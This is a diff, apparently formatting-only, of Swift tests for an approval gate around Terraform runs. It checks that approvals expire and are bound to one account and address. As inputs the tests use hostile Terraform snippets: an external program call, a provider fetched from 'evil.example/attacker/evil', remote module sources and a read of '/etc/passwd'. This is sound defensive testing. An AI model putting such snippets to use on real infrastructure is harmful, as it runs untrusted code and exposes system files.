@@ -19,13 +19,16 @@ struct BoundaryTests {
     }
     """
 
-  @Test(.needsTool, arguments: [
-    "data \"external\" \"a\" { program = [\"id\"] }", "data \"http\" \"a\" { url = \"http://127.0.0.1:1\" }",
-    "module \"m\" { source = \"http://127.0.0.1:1/m.zip\" }",
-    "terraform {\n  backend \"http\" { address = \"http://127.0.0.1:1\" }\n}",
-    "terraform {\n  required_providers {\n    e = { source = \"evil.example/attacker/evil\" }\n  }\n}",
-    "locals { a = file(\"/etc/passwd\") }", "resource \"x\" {", program,
-  ])
+  @Test(
+    .needsTool,
+    arguments: [
+      "data \"external\" \"a\" { program = [\"id\"] }",
+      "data \"http\" \"a\" { url = \"http://127.0.0.1:1\" }",
+      "module \"m\" { source = \"http://127.0.0.1:1/m.zip\" }",
+      "terraform {\n  backend \"http\" { address = \"http://127.0.0.1:1\" }\n}",
+      "terraform {\n  required_providers {\n    e = { source = \"evil.example/attacker/evil\" }\n  }\n}",
+      "locals { a = file(\"/etc/passwd\") }", "resource \"x\" {", program,
+    ])
   func nothingIsStartedThatNobodyAllowed(text: String) async throws {
     try await Place.with { place in
       try place.write(text)
@@ -41,7 +44,8 @@ struct BoundaryTests {
       place.rules = ApprovalRules(allowsSelf: true, approversAtRisk: 1)
       let planned = try await place.planAllowing()
       #expect(planned.document.approversNeeded == 2)
-      #expect(planned.document.risks.contains { $0.kind == .code && $0.reason.contains("command = \"true\"") })
+      #expect(
+        planned.document.risks.contains { $0.kind == .code && $0.reason.contains("command = \"true\"") })
       #expect(try await place.store().audit().map(\.entry.action) == [.allowed, .planned])
       _ = try await place.executor().approve(
         planned.record.id, word: ApprovalWord(approver: "maria", typedCount: 1))
@@ -103,14 +107,19 @@ struct BoundaryTests {
     }
   }
 
-  @Test(.needsTool, arguments: [
-    ("AWS_ENDPOINT_URL", "http://127.0.0.1:1"), ("AWS_PROFILE", "production"), ("AWS_REGION", "us-east-1"),
-    ("AWS_ENDPOINT_URL_S3", "http://127.0.0.1:2"), ("AWS_CONFIG_FILE", "/tmp/other"), ("AWS_ROLE_ARN", "arn:aws:iam::1:role/x"),
-    ("AWS_ACCESS_KEY_ID", "AKIAQYLPMN5HHHFPZAM2"), ("KUBECONFIG", "/tmp/other"),
-  ])
+  @Test(
+    .needsTool,
+    arguments: [
+      ("AWS_ENDPOINT_URL", "http://127.0.0.1:1"), ("AWS_PROFILE", "production"), ("AWS_REGION", "us-east-1"),
+      ("AWS_ENDPOINT_URL_S3", "http://127.0.0.1:2"), ("AWS_CONFIG_FILE", "/tmp/other"),
+      ("AWS_ROLE_ARN", "arn:aws:iam::1:role/x"),
+      ("AWS_ACCESS_KEY_ID", "AKIAQYLPMN5HHHFPZAM2"), ("KUBECONFIG", "/tmp/other"),
+    ])
   func anApprovalIsForOneAccountAndOneAddress(variable: String, value: String) async throws {
     try await Place.with { place in
-      place.environment = ["PATH": "/usr/bin:/bin", "HOME": place.root, "AWS_ACCESS_KEY_ID": "AKIAIOSFODNN7EXAMPLE"]
+      place.environment = [
+        "PATH": "/usr/bin:/bin", "HOME": place.root, "AWS_ACCESS_KEY_ID": "AKIAIOSFODNN7EXAMPLE",
+      ]
       let planned = try await place.executor().plan(place.folder) { _ in }
       _ = try await place.executor().approve(planned.record.id, word: ApprovalWord(approver: "maria"))
       var elsewhere = place
@@ -119,7 +128,8 @@ struct BoundaryTests {
       _ = try place.startsSinceLast()
       await Place.refused(.changed) { _ = try await other.executor().apply(planned.record.id) { _ in } }
       #expect(try place.startsSinceLast().isEmpty)
-      #expect(try await other.executor().plan(place.folder) { _ in }.document.digest != planned.document.digest)
+      #expect(
+        try await other.executor().plan(place.folder) { _ in }.document.digest != planned.document.digest)
     }
   }
 
@@ -134,8 +144,10 @@ struct BoundaryTests {
       let planned = try await place.executor().plan(place.folder) { _ in }
       let workspace = planned.document.workspace
       let file = try #require(
-        FileManager.default.subpaths(atPath: workspace)?.first { $0.hasSuffix("tool.tfrc") }, "no settings file")
-      try Data("provider_installation { dev_overrides { } }".utf8).write(to: URL(filePath: "\(workspace)/\(file)"))
+        FileManager.default.subpaths(atPath: workspace)?.first { $0.hasSuffix("tool.tfrc") },
+        "no settings file")
+      try Data("provider_installation { dev_overrides { } }".utf8).write(
+        to: URL(filePath: "\(workspace)/\(file)"))
       try await place.approveAndApply(planned)
       let text = try String(contentsOfFile: "\(workspace)/\(file)", encoding: .utf8)
       #expect(!text.contains("dev_overrides"))
@@ -148,7 +160,9 @@ struct BoundaryTests {
       let planned = try await place.executor().plan(place.folder) { _ in }
       _ = try await place.executor().approve(planned.record.id, word: ApprovalWord(approver: "maria"))
       let later = Date().addingTimeInterval(2 * 3600)
-      await Place.refused(.expired) { _ = try await place.executor(at: later).apply(planned.record.id) { _ in } }
+      await Place.refused(.expired) {
+        _ = try await place.executor(at: later).apply(planned.record.id) { _ in }
+      }
       await Place.refused(.expired) { _ = try await place.executor().apply(planned.record.id) { _ in } }
     }
   }
@@ -165,7 +179,9 @@ struct BoundaryTests {
     }
   }
 
-  @Test(.needsTool, arguments: [0o666, 0o622, 0o660]) func keysThatOthersMayWriteApproveNothing(mode: Int) async throws {
+  @Test(.needsTool, arguments: [0o666, 0o622, 0o660]) func keysThatOthersMayWriteApproveNothing(mode: Int)
+    async throws
+  {
     try await Place.with { place in
       let planned = try await place.executor().plan(place.folder) { _ in }
       _ = try await place.executor().approve(planned.record.id, word: ApprovalWord(approver: "maria"))
